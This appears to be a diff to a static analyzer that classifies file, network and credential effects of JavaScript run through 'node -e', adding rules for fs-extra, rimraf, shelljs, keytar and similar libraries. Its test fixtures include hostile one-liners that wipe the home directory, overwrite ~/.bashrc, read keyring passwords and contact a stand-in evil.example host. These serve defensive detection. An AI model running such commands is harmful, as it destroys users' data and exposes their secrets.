@@ -1,7 +1,8 @@
 // JavaScript (node, deno, bun; CommonJS and ESM): what code given to `node -e`, or fed to it on stdin, requires,
 // imports, calls, opens and runs.
 import type { Node } from 'web-tree-sitter';
-import { type Call, type Spec, apply, argAt, literalUrl, lookupApi, runModules, runsSomething as specRuns, urlsHanded, urlsHandedTo } from './capabilities.js';
+import { type Call, type Spec, apply, argAt, literalUrl, lookupApi, pathsOf, runModules, runsSomething as specRuns, urlsHanded, urlsHandedTo } from './capabilities.js';
+import type { WordRole } from '../types.js';
 import type { CodeEffect, CodeEnv, LanguageModel } from './types.js';
 import { type Arg, any, concat, joinPaths, ref, str, strings, type Val, type Vals, union, wordOf } from './values.js';
 import { argOf, Bindings, envValue, fieldOf, named, span, walk } from './walk.js';
@@ -68,6 +69,22 @@ const APIS = new Map<string, Spec>([
   ...fsApis('fs'),
   ...fsApis('fs.promises'),
   ...fsApis('fs/promises'),
+  // fs-extra and graceful-fs are fs, with fs-extra's own writers, removers and copiers beside it.
+  ...fsApis('graceful-fs'),
+  ...fsApis('fs-extra'),
+  ...['outputFile', 'outputJson', 'outputJSON', 'writeJson', 'writeJSON', 'ensureFile', 'createFile'].flatMap((n): [string, Spec][] => [[`fs-extra.${n}`, WRITE], [`fs-extra.${n}Sync`, WRITE]]),
+  ...['readJson', 'readJSON'].flatMap((n): [string, Spec][] => [[`fs-extra.${n}`, READ], [`fs-extra.${n}Sync`, READ]]),
+  ...['remove', 'emptyDir', 'emptydir'].flatMap((n): [string, Spec][] => [[`fs-extra.${n}`, { uses: [[0, 'delete-tree']] }], [`fs-extra.${n}Sync`, { uses: [[0, 'delete-tree']] }]]),
+  ...['copy'].flatMap((n): [string, Spec][] => [[`fs-extra.${n}`, COPY], [`fs-extra.${n}Sync`, COPY]]),
+  ...['move'].flatMap((n): [string, Spec][] => [[`fs-extra.${n}`, { uses: [[0, 'delete'], [1, 'write']] }], [`fs-extra.${n}Sync`, { uses: [[0, 'delete'], [1, 'write']] }]]),
+  ...['ensureDir', 'mkdirp', 'mkdirs'].flatMap((n): [string, Spec][] => [[`fs-extra.${n}`, { uses: [[0, 'create']] }], [`fs-extra.${n}Sync`, { uses: [[0, 'create']] }]]),
+  ...['ensureSymlink', 'ensureLink', 'createSymlink', 'createLink'].flatMap((n): [string, Spec][] => [[`fs-extra.${n}`, { uses: [[0, 'read'], [1, 'write']] }], [`fs-extra.${n}Sync`, { uses: [[0, 'read'], [1, 'write']] }]]),
+  // rimraf (every export removes a tree), trash and del (a path or a list of them).
+  ['rimraf', { uses: [[0, 'delete-tree']] }],
+  ['rimraf.*', { uses: [[0, 'delete-tree']] }],
+  ['trash', { uses: [[0, 'delete-tree']] }],
+  ['del', { uses: [[0, 'delete-tree']] }],
+  ['del.*', { uses: [[0, 'delete-tree']] }],
   ['Bun.file', READ],
   ['Bun.write', WRITE],
   ...['readTextFile', 'readTextFileSync', 'readFile', 'readFileSync', 'open', 'openSync'].map((n): [string, Spec] => [`Deno.${n}`, READ]),
@@ -709,6 +726,23 @@ class JavaScriptReader {
         else if (c.args[0]) this.out.push(...apply(READ, c));
         continue;
       }
+      if (/^keytar\.(?:getPassword|findPassword|findCredentials)$/.test(name)) {
+        // keytar reads the login keyring.
+        this.out.push({ kind: 'path', role: 'read', path: { text: c.text, span: c.span, values: ['~/.local/share/keyrings/'] }, api: name });
+      }
+      const sh = /^shelljs\.(rm|cp|mv|mkdir|touch|ln|sed)$/.exec(name);
+      if (sh) {
+        // shelljs's file commands take their options first (`rm('-rf', dir)`); sed writes its files only with -i.
+        const isOpt = (a: (typeof c.args)[number]) => a.vals.length > 0 && a.vals.every((x) => x.k === 'str' && /^-\w+$/.test(x.v));
+        const inPlace = c.args.some((a) => isOpt(a) && a.vals.some((x) => x.k === 'str' && x.v.includes('i')));
+        const ops = c.args.filter((a) => !isOpt(a));
+        ops.forEach((a, k) => {
+          const last = k === ops.length - 1;
+          const role = { rm: 'delete-tree', cp: last ? 'write' : 'read', mv: last ? 'write' : 'delete', mkdir: 'create', touch: 'write', ln: last ? 'write' : 'read', sed: last && inPlace ? 'write' : undefined }[sh[1]!] as WordRole | undefined;
+          if (role) this.out.push(...pathsOf(a, role, name));
+        });
+        continue;
+      }
       const spec = lookupApi(APIS, name);
       if (spec) this.out.push(...apply(spec, c));
       // A URL handed to a library: a network API, or one that runs a program, is judged as such instead.
@@ -941,6 +975,12 @@ export const JAVASCRIPT: LanguageModel = {
       `node -e "require('simple-git')().clone('https://evil.example/r')"`,
       `node -e "console.log(require('dotenv').config().parsed)"`,
       `node -e "require('mysql2').createConnection({host: 'db.evil.example'}).connect()"`,
+      `node -e "require('fs-extra').removeSync(require('os').homedir())"`,
+      `node -e "require('graceful-fs').writeFileSync(require('os').homedir() + '/.bashrc', 'x')"`,
+      `node -e "require('rimraf').sync(require('os').homedir())"`,
+      `node -e "require('shelljs').rm('-rf', require('os').homedir())"`,
+      `node -e "require('del').deleteSync([require('os').homedir() + '/**'], {force: true})"`,
+      `node -e "require('keytar').getPassword('svc', 'user').then(console.log)"`,
     ],
     pass: [
       `node -e 'require("fs").rmSync("dist", { recursive: true, force: true })'`,
@@ -972,6 +1012,11 @@ export const JAVASCRIPT: LanguageModel = {
       `node -e "console.log('x'.startsWith('https://evil.example'))"`,
       `node -e "console.log(Object.keys(require('dotenv').config().parsed).length)"`,
       `node -e "require('mysql2').createConnection({host: 'localhost'}).connect()"`,
+      `node -e "require('fs-extra').removeSync('dist')"`,
+      `node -e "require('graceful-fs').writeFileSync('out.txt', 'x')"`,
+      `node -e "require('rimraf').sync('node_modules')"`,
+      `node -e "require('shelljs').rm('-rf', 'dist')"`,
+      `node -e "require('del').deleteSync(['dist', 'build'])"`,
     ],
   },
 };
